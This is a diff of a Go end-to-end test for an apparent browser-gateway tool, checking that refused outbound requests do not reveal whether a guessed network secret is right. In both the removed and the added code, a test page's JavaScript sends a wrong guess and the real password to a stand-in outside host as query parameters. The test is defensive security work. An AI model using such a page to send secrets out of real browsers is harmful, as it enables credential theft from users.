@@ -1,10 +1,7 @@
 package main
 
 import (
-	"fmt"
-	"net/http"
 	"strings"
-	"sync/atomic"
 	"testing"
 	"time"
 )
@@ -53,38 +50,12 @@ func TestAnotherTabsRefusedGuessesAreNoOracle(t *testing.T) {
 	t.Parallel()
 	const password = "Rev5-Bg-T4b-2291"
 	d := launchHTTP(t, nil, []string{"BROWSERGATE_E2E_NETSECRET=" + password}, networkLogsManifest, "")
-	var goAhead atomic.Bool
-	sent := make(chan struct{}, 1)
-	site, evil := guessSites(t, func(w http.ResponseWriter, r *http.Request) {
-		switch r.URL.Path {
-		case "/poll": // the page sends its guesses once the test says so
-			fmt.Fprint(w, goAhead.Load())
-		case "/sent":
-			select {
-			case sent <- struct{}{}:
-			default:
-			}
-		default:
-			fmt.Fprint(w, `<!doctype html><title>Hostile</title>
-<script>
-const poll = setInterval(async () => {
-  if (await (await fetch('/poll')).text() !== 'true') return;
-  clearInterval(poll);
-  await Promise.all(['`+wrongGuess+`', '`+password+`'].map(g => fetch('http://outside.example/?g=' + g).catch(() => 0)));
-  fetch('/sent');
-}, 50);
-</script>`)
-		}
-	})
+	site, evil, goAhead, sent := guessSitesOnCue(t, `await Promise.all(['`+wrongGuess+`', '`+password+`'].map(g => fetch('http://outside.example/?g=' + g).catch(() => 0)));`)
 	call := allowedCaller(t, d.connect(t, "alice-token"))
 	call("navigate", map[string]any{"url": evil + "/"})
 	replies := call("new_tab", map[string]any{"url": site + "/"})
 	goAhead.Store(true)
-	select {
-	case <-sent:
-	case <-time.After(30 * time.Second):
-		t.Fatal("the hostile tab did not send its guesses")
-	}
+	awaitCue(t, sent, "the hostile tab did not send its guesses")
 	replies = refusalsUntil(t, call, replies, 2)
 	refusalsAlike(t, replies, password)
 	if !strings.Contains(replies, "g="+password) {
